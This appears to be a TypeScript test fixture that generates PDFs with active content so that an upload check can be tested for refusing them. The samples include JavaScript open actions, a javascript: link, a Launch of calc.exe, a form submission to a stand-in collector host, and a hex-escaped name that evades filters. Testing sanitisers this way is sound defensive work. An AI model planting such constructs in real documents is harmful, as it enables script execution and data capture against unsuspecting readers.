/**
 * Real PDFs for the media tests (REQ-LISTING-16), made with @cantoo/pdf-lib the way an agent's software would make them,
 * plus hand-written PDF text where a file must hold something a PDF library would not write (a hex-escaped name, an
 * encryption dictionary). Each active-content sample carries one kind of content only, so a test names what is
 * refused.
 */
import { PDFDocument, PDFName, PDFString, type PDFPage } from '@cantoo/pdf-lib';

type Decorate = (doc: PDFDocument, page: PDFPage) => void | Promise<void>;
/** A link's action: its type (`/S`) and its script or address. */
type LinkAction = { S: string; JS?: PDFString; URI?: PDFString };

/** A one-page A4 PDF with a line of text, changed by `decorate`; `pages` adds blank pages. */
export async function makePdf(decorate?: Decorate, pages = 1): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  page.drawText('Ground floor: kitchen 4.20 m x 3.10 m', { x: 50, y: 780, size: 12 });
  for (let n = 1; n < pages; n++) doc.addPage([595, 842]);
  await decorate?.(doc, page);
  return Buffer.from(await doc.save());
}

/** Puts one link annotation with action `A` on the page. */
const withLink =
  (action: LinkAction): Decorate =>
  (doc, page) => {
    const link = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [50, 50, 200, 80], A: action });
    page.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
  };

/** The samples the PDF check must refuse, by what each carries. */
export const ACTIVE_PDFS = {
  /** The document's open action runs a script. */
  openActionJavaScript: () =>
    makePdf((doc) => {
      doc.catalog.set(
        PDFName.of('OpenAction'),
        doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("hi")') }),
      );
    }),
  /** A document-level script in the names tree. */
  namedJavaScript: () =>
    makePdf((doc) => {
      const script = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('this.print()') });
      doc.catalog.set(
        PDFName.of('Names'),
        doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFString.of('init'), script] }) }),
      );
    }),
  /** A link whose action is a script (pdf.js drops it without a word). */
  linkJavaScript: () => makePdf(withLink({ S: 'JavaScript', JS: PDFString.of('app.launchURL("x")') })),
  /** A link to a `javascript:` URI. */
  linkJavaScriptUri: () => makePdf(withLink({ S: 'URI', URI: PDFString.of('javascript:alert(1)') })),
  /** A script run when the page opens. */
  pageOpenJavaScript: () =>
    makePdf((doc, page) => {
      page.node.set(PDFName.of('AA'), doc.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('1') } }));
    }),
  /** The document starts a program when opened. */
  openActionLaunch: () =>
    makePdf((doc) => {
      doc.catalog.set(
        PDFName.of('OpenAction'),
        doc.context.obj({ S: 'Launch', F: PDFString.of('calc.exe') }),
      );
    }),
  /** A form button that sends the form to another site. */
  formSubmit: () =>
    makePdf((doc, page) => {
      const button = doc.getForm().createButton('send');
      button.addToPage('Send', page, { x: 50, y: 100 });
      button.acroField
        .getWidgets()[0]!
        .dict.set(
          PDFName.of('A'),
          doc.context.obj({ S: 'SubmitForm', F: PDFString.of('https://collector.example/form') }),
        );
    }),
  /** A form field that runs a script as it is typed in. */
  formFieldJavaScript: () =>
    makePdf((doc, page) => {
      const field = doc.getForm().createTextField('offer');
      field.addToPage(page, { x: 50, y: 100 });
      field.acroField.dict.set(
        PDFName.of('AA'),
        doc.context.obj({ K: { S: 'JavaScript', JS: PDFString.of('event.value = 1') } }),
      );
    }),
  /** The script action written with a hex-escaped name (`/J#61vaScript`), which readers decode. */
  escapedJavaScript: async () =>
    pdfText([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    ]),
} satisfies Record<string, () => Promise<Buffer>>;

/** A PDF with a file attached to the document. */
export const pdfWithEmbeddedFile = () =>
  makePdf(async (doc) => {
    await doc.attach(Buffer.from('not a floor plan'), 'notes.txt', { mimeType: 'text/plain' });
  });

/** A PDF locked with a user password, as pdf-lib encrypts it. */
export const passwordProtectedPdf = () =>
  makePdf((doc) => doc.encrypt({ userPassword: 'secret', ownerPassword: 'owner', permissions: {} }));

/** An encrypted PDF that opens without a password (only the owner's is set): still encrypted. */
export const ownerPasswordPdf = () =>
  makePdf((doc) => doc.encrypt({ userPassword: '', ownerPassword: 'owner', permissions: {} }));

/**
 * PDF text from its objects' bodies (object 1 is the catalog), with a correct cross-reference table, so the file is
 * valid apart from what the bodies hold.
 */
export function pdfText(bodies: string[], trailerExtra = ''): Buffer {
  let out = '%PDF-1.7\n';
  const offsets: number[] = [];
  bodies.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}
